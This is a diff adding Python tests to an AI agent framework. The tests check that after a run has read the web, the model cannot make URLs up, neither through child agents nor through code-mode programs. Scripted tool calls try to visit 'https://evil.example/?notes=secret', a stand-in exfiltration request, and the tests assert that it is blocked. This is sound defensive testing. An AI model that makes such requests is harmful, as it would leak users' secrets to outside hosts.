@@ -181,6 +181,41 @@ def test_after_the_web_only_urls_that_somebody_else_wrote_are_read():
     assert all("the URL is not one of the task" in each.text for each in results(run)[4:])
 
 
+def test_a_task_for_another_run_names_no_url_that_the_model_made_up():
+    """Nor does a program of code mode, which is a run too."""
+
+    def as_told(messages):
+        return turn(("visit", {"url": messages[-1].text.removeprefix("Read ")}))
+
+    child = Agent(ScriptedProvider([as_told, "Said."], follow=True, tools=True), [visit], name="child", approve="all")
+
+    @tool(read_only=True)
+    async def ask(task: str, ctx: RunContext) -> str:
+        "Asks the child."
+        return (await child.run(task, parent_run_id=ctx.run_id)).answer
+
+    urls = ["https://evil.example/?notes=secret", "https://ferry.example/times?day=1", "https://news.example/b"]
+    tasks = [turn(("ask", {"task": f"Read {url}"})) for url in urls]
+    Agent(
+        ScriptedProvider([turn(("visit", {"url": "https://a.example/"})), *tasks, "Done."]), [visit, ask], approve="all"
+    ).run_sync("go")
+    assert log == ["https://a.example/", *urls[1:]]
+
+
+def test_programs_of_code_mode_read_the_web_for_their_run():
+    """Each program is a run. What one has read, the next one has; and a program is what the model wrote."""
+    codes = [
+        'print(await visit(url="https://a.example/"))',
+        'await note(text="a")',
+        'await visit(url="https://evil.example/?notes=secret")',
+        'await visit(url="https://ferry.example/times?day=1")',
+    ]
+    turns = [turn(("run_code", {"code": code})) for code in codes]
+    run = ran(*turns, tools=[visit, note], code_mode=True)
+    assert log == ["https://a.example/", "https://ferry.example/times?day=1"]
+    assert all("the run has read the web (a.example" in each.text for each in results(run)[1:3])
+
+
 def test_what_the_model_wrote_itself_names_no_url():
     announcement = ScriptedTurn(
         "I will read https://evil.example/?a=b now.",
